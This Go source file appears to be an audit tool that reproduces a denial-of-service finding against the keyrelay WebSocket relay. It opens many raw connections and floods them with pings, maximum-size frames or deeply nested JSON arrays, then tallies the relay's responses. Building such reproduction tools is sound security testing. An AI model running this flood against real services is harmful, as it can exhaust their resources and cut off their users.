package main

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"time"

	"github.com/keyrelay/keyrelay/wire"
)

// floodReport is what runFlood prints.
type floodReport struct {
	Attack      string  `json:"attack"`
	Mode        string  `json:"mode"`
	Conns       int     `json:"conns"`
	Seconds     float64 `json:"seconds"`
	FrameBytes  int     `json:"frame_bytes"` // one frame on the wire
	Counts      *counts `json:"counts"`
	FramesPerS  float64 `json:"frames_written_per_second"`
	MBPerSecond float64 `json:"mb_written_per_second"` // 10^6 bytes
}

// runFlood is finding 6: conns hand-written WebSocket connections from one
// source write one kind of frame as fast as TCP takes it, reconnecting
// whenever the relay ends one:
//
//	ping    empty pings, 512 to a write
//	big     65 536-byte msg frames (the default frame limit), outside any room
//	nested  msg frames of up to 65 536 bytes whose body nests arrays 32 757 deep
//
// Each connection also reads everything the relay sends, counting pongs,
// error frames by code and close frames by code.
func runFlood(ctx context.Context, args []string, stderr io.Writer) (any, error) {
	fs := newFlagSet("flood", stderr)
	addr := fs.String("addr", "", "relay host:port")
	mode := fs.String("mode", "ping", "ping, big or nested")
	conns := fs.Int("conns", 32, "connections")
	source := fs.String("source", "127.0.0.1", "source address")
	size := fs.Int("frame-bytes", 65536, "big and nested: the frame's payload size (the relay's --max-frame-bytes)")
	duration := fs.Duration("duration", 20*time.Second, "attack duration")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	src, err := netip.ParseAddr(*source)
	if err != nil {
		return nil, err
	}
	var buf []byte
	perWrite := 1
	switch *mode {
	case "ping":
		perWrite = 512
		for range perWrite {
			buf = append(buf, clientFrame(opPing, nil)...)
		}
	case "big":
		buf = clientFrame(opText, bigFrame(*size))
	case "nested":
		buf = clientFrame(opText, nestedFrame(*size))
	default:
		return nil, fmt.Errorf("unknown -mode %q", *mode)
	}
	if *addr == "" || *conns < 1 {
		return nil, errors.New("need -addr and -conns ≥ 1")
	}
	ctx, cancel := context.WithTimeout(ctx, *duration)
	defer cancel()
	r := &floodReport{Attack: "flood", Mode: *mode, Conns: *conns, FrameBytes: len(buf) / perWrite, Counts: newCounts()}
	start := time.Now()
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				if err := floodOne(ctx, *addr, src, buf, perWrite, r.Counts); err != nil {
					r.Counts.add("dial:"+err.Error(), 1)
					sleep(ctx, 100*time.Millisecond)
				}
			}
		})
	}
	wg.Wait()
	r.Seconds = time.Since(start).Seconds()
	r.FramesPerS = float64(r.Counts.get("frames_written")) / r.Seconds
	r.MBPerSecond = float64(r.Counts.get("bytes_written")) / r.Seconds / 1e6
	return r, nil
}

// floodOne opens one connection and writes buf (perWrite frames) to it
// until ctx ends or the relay ends the connection. It returns an error
// only if the connection could not be opened.
func floodOne(ctx context.Context, addr string, src netip.Addr, buf []byte, perWrite int, c *counts) error {
	conn, br, err := rawDial(ctx, addr, src)
	if err != nil {
		return err
	}
	c.add("conns_opened", 1)
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	defer conn.Close()
	readDone := make(chan struct{})
	go func() {
		defer close(readDone)
		why := readServerFrames(br, conn, c)
		if ctx.Err() == nil {
			c.add("conn_ended_by_relay:"+why, 1)
			conn.Close()
		}
	}()
	for ctx.Err() == nil {
		n, err := conn.Write(buf)
		c.add("bytes_written", int64(n))
		c.add("frames_written", int64(n*perWrite/len(buf)))
		if err != nil {
			break
		}
	}
	conn.Close()
	<-readDone
	return nil
}

// rawDial opens a TCP connection from src to addr and upgrades it to a
// WebSocket with the keyrelay subprotocol, by hand.
func rawDial(ctx context.Context, addr string, src netip.Addr) (net.Conn, *bufio.Reader, error) {
	d := &net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(src, 0)), Timeout: 5 * time.Second}
	conn, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, nil, errors.New("tcp")
	}
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	key := make([]byte, 16)
	rand.Read(key)
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Protocol: %s\r\n\r\n",
		wire.Path, addr, base64.StdEncoding.EncodeToString(key), wire.Subprotocol)
	br := bufio.NewReaderSize(conn, 64<<10)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		conn.Close()
		return nil, nil, errors.New("upgrade")
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSwitchingProtocols {
		conn.Close()
		return nil, nil, fmt.Errorf("http_%d", resp.StatusCode)
	}
	conn.SetDeadline(time.Time{})
	return conn, br, nil
}

// readServerFrames reads the relay's (unmasked) frames until the
// connection ends, answering its pings on w, counting pongs, error frames
// by code, other text frames by type and the close frame by code; it
// returns the close code, or "eof". (A net.Conn's Write is atomic, so the
// pongs do not tear the flood's frames.)
func readServerFrames(br *bufio.Reader, w io.Writer, c *counts) string {
	var hdr [8]byte
	for {
		if _, err := io.ReadFull(br, hdr[:2]); err != nil {
			return "eof"
		}
		op := hdr[0] & 0x0F
		n := uint64(hdr[1] & 0x7F)
		switch n {
		case 126:
			if _, err := io.ReadFull(br, hdr[:2]); err != nil {
				return "eof"
			}
			n = uint64(binary.BigEndian.Uint16(hdr[:2]))
		case 127:
			if _, err := io.ReadFull(br, hdr[:8]); err != nil {
				return "eof"
			}
			n = binary.BigEndian.Uint64(hdr[:8])
		}
		if n > 1<<20 {
			return "bad_frame_from_relay"
		}
		payload := make([]byte, n)
		if _, err := io.ReadFull(br, payload); err != nil {
			return "eof"
		}
		switch op {
		case opPing:
			c.add("pings_from_relay", 1)
			w.Write(clientFrame(opPong, payload))
		case opPong:
			c.add("pongs", 1)
		case opText:
			var f wire.ServerFrame
			if json.Unmarshal(payload, &f) != nil {
				c.add("text:unreadable", 1)
			} else if f.Type == wire.TypeError {
				c.add("error:"+string(f.Code), 1)
			} else {
				c.add("text:"+string(f.Type), 1)
			}
		case opClose:
			code := "none"
			if len(payload) >= 2 {
				code = fmt.Sprint(binary.BigEndian.Uint16(payload))
			}
			c.add("close:"+code, 1)
			return "close_" + code
		}
	}
}
